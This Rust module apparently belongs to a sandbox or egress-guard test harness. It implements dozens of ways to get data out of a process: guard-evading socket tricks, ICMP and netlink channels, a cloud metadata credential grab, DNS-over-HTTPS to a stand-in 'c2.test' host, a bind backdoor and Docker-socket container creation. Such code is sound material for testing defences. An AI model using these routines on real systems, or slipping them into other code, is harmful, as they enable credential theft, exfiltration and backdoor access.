//! Ways out by the network, and ways in: each system call and socket family by which bytes leave a
//! process. Not names (see `names`) and not io_uring (see `ring`).

use crate::instruction::{Instruction, Outcome};
use crate::raw::{self, Sockaddr, check};
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv6Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixStream;
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(2);

/// The plain way: `rewqest`, `event-stream`, `litellm` and nearly every other.
pub fn tcp(it: &Instruction) -> io::Result<Outcome> {
    deliver(TcpStream::connect_timeout(&it.address()?, TIMEOUT)?, it)
}

/// The same address in IPv6 clothes, which rules for IPv4 do not match as text.
pub fn tcp_mapped(it: &Instruction) -> io::Result<Outcome> {
    let address = it.address()?;
    let IpAddr::V4(v4) = address.ip() else { return Err(io::Error::other("not IPv4")) };
    let mapped: Ipv6Addr = v4.to_ipv6_mapped();
    deliver(TcpStream::connect_timeout(&SocketAddr::new(mapped.into(), address.port()), TIMEOUT)?, it)
}

/// sendto with MSG_FASTOPEN connects without connect(2).
pub fn fast_open(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    send_to(&socket, &it.payload(), libc::MSG_FASTOPEN, &it.address()?.into())?;
    TcpStream::from(socket).shutdown(Shutdown::Write)?;
    Ok(Outcome::Done)
}

/// A stream socket of protocol 262: the kernel opens subflows to addresses that the peer names.
pub fn multipath(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)?;
    connect(&socket, &it.address()?.into())?;
    deliver(TcpStream::from(socket), it)
}

/// One datagram, one call.
pub fn udp_sendto(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    send_to(&socket, &it.payload(), 0, &it.address()?.into())?;
    Ok(Outcome::Done)
}

/// connect and send: what is sent carries no address to look at.
pub fn udp_connected(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    connect(&socket, &it.address()?.into())?;
    let payload = it.payload();
    // SAFETY: the pointer and the length are of one live buffer.
    check(unsafe { libc::send(socket.as_raw_fd(), payload.as_ptr().cast(), payload.len(), 0) } as i64)?;
    Ok(Outcome::Done)
}

/// The address behind a pointer behind a pointer.
pub fn udp_sendmsg(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let address = Sockaddr::from(it.address()?);
    let payload = it.payload();
    let mut part = libc::iovec { iov_base: payload.as_ptr().cast_mut().cast(), iov_len: payload.len() };
    let header = message(&address, &mut part);
    // SAFETY: the header and what it points at live until the call returns.
    check(unsafe { libc::sendmsg(socket.as_raw_fd(), &raw const header, 0) } as i64)?;
    Ok(Outcome::Done)
}

/// Many at once; the first one is what a careless guard looks at.
pub fn udp_sendmmsg(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let address = Sockaddr::from(it.address()?);
    let payload = it.payload();
    let mut part = libc::iovec { iov_base: payload.as_ptr().cast_mut().cast(), iov_len: payload.len() };
    let header = message(&address, &mut part);
    let mut many = [libc::mmsghdr { msg_hdr: header, msg_len: 0 }; 2];
    // SAFETY: the headers and what they point at live until the call returns.
    check(unsafe { libc::sendmmsg(socket.as_raw_fd(), many.as_mut_ptr(), 2, 0) })?;
    Ok(Outcome::Done)
}

/// AF_UNSPEC in an address is a farewell to connect, but to sendto it is IPv4.
pub fn udp_unspecified_family(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let address = Sockaddr::from(it.address()?).with_family(libc::AF_UNSPEC);
    send_to(&socket, &it.payload(), 0, &address)?;
    Ok(Outcome::Done)
}

/// The socket's family and the address's differ.
pub fn udp_v4_on_v6(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    send_to(&socket, &it.payload(), 0, &it.address()?.into())?;
    Ok(Outcome::Done)
}

/// The credentials of the machine's role, for whoever asks.
pub fn metadata_service(it: &Instruction) -> io::Result<Outcome> {
    let mut stream = TcpStream::connect_timeout(&it.address()?, TIMEOUT)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    let role = &it.nonce;
    write!(
        stream,
        "GET /latest/meta-data/iam/security-credentials/{role} HTTP/1.1\r\nhost: 169.254.169.254\r\nconnection: close\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    it.loot(&answer);
    Ok(Outcome::Done)
}

/// Denonia (2022): names asked over the web, past every rule for port 53.
pub fn dns_over_http(it: &Instruction) -> io::Result<Outcome> {
    let mut stream = TcpStream::connect_timeout(&it.address()?, TIMEOUT)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    let query = crate::names::query(&format!("{}.c2.test", it.nonce));
    write!(
        stream,
        "POST /dns-query?{} HTTP/1.1\r\nhost: dns.test\r\ncontent-type: application/dns-message\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        it.nonce,
        query.len()
    )?;
    stream.write_all(&query)?;
    stream.read_to_end(&mut Vec::new())?;
    Ok(Outcome::Done)
}

/// A door of its own: whoever knocks gets the key.
pub fn bind_backdoor(it: &Instruction) -> io::Result<Outcome> {
    open_door(TcpListener::bind(it.address()?)?, it)
}

/// listen without bind: the kernel picks a port.
pub fn listen_unbound(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    // SAFETY: no pointers.
    check(unsafe { libc::listen(socket.as_raw_fd(), 8) })?;
    open_door(TcpListener::from(socket), it)
}

/// Somebody else starts the program: the container daemon, by its socket.
pub fn docker_socket(it: &Instruction) -> io::Result<Outcome> {
    let mut stream = UnixStream::connect(&it.to)?;
    write!(stream, "POST /containers/create?name={} HTTP/1.1\r\nhost: docker\r\n\r\n", it.nonce)?;
    Ok(Outcome::Done)
}

/// An abstract socket is on no file system.
pub fn abstract_socket(it: &Instruction) -> io::Result<Outcome> {
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&it.to)?;
    UnixStream::connect_addr(&address)?.write_all(&it.payload())?;
    Ok(Outcome::Done)
}

/// An echo request with the key inside: datagram, protocol 1, no capability needed.
pub fn ping(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
    // Type 8, code 0; the kernel fills in checksum and identifier (icmp(7), RFC 792).
    let mut packet = vec![8, 0, 0, 0, 0, 0, 0, 1];
    packet.extend_from_slice(&it.payload());
    send_to(&socket, &packet, 0, &it.address()?.into())?;
    Ok(Outcome::Done)
}

/// Netlink's user protocol carries bytes between any two processes of a network namespace.
pub fn netlink(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_USERSOCK)?;
    // SAFETY: all zero is a valid sockaddr_nl.
    let mut address: libc::sockaddr_nl = unsafe { std::mem::zeroed() };
    address.nl_family = libc::AF_NETLINK as libc::sa_family_t;
    address.nl_pid = it.number()? as u32;
    send_to(&socket, &it.payload(), 0, &Sockaddr::of(address, size_of::<libc::sockaddr_nl>()))?;
    Ok(Outcome::Done)
}

/// In a micro VM this family reaches the host. The socket is kept; nothing is sent to a host.
pub fn vsock(_: &Instruction) -> io::Result<Outcome> {
    std::mem::forget(raw::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)?);
    Ok(Outcome::Done)
}

fn deliver(mut stream: TcpStream, it: &Instruction) -> io::Result<Outcome> {
    stream.write_all(&it.payload())?;
    stream.shutdown(Shutdown::Write)?;
    Ok(Outcome::Done)
}

fn open_door(listener: TcpListener, it: &Instruction) -> io::Result<Outcome> {
    let payload = it.payload();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let _ = stream.and_then(|mut stream| stream.write_all(&payload));
        }
    });
    Ok(Outcome::Done)
}

/// connect(2).
pub fn connect(socket: &OwnedFd, address: &Sockaddr) -> io::Result<()> {
    // SAFETY: the address lives until the call returns.
    check(unsafe { libc::connect(socket.as_raw_fd(), address.as_ptr(), address.len) }).map(drop)
}

/// sendto(2).
pub fn send_to(socket: &OwnedFd, bytes: &[u8], flags: i32, address: &Sockaddr) -> io::Result<()> {
    let (pointer, len) = (bytes.as_ptr().cast(), bytes.len());
    // SAFETY: bytes and address live until the call returns.
    let sent =
        unsafe { libc::sendto(socket.as_raw_fd(), pointer, len, flags, address.as_ptr(), address.len) };
    check(sent as i64).map(drop)
}

fn message(address: &Sockaddr, part: &mut libc::iovec) -> libc::msghdr {
    // SAFETY: all zero is a valid msghdr.
    let mut header: libc::msghdr = unsafe { std::mem::zeroed() };
    header.msg_name = address.as_ptr().cast_mut().cast();
    header.msg_namelen = address.len;
    header.msg_iov = part;
    header.msg_iovlen = 1;
    header
}
